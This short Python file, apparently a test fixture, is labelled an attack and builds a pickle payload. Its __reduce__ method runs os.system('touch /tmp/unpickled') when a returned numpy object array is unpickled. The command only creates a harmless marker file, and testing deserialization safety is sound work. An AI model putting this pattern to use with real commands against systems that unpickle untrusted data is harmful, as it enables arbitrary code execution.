# Attack: return objects and arrays that run code when they are unpickled.
# Harmless
import os

import numpy as np


class Pickled:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def add(a, b):
    return np.array([Pickled()], dtype=object)
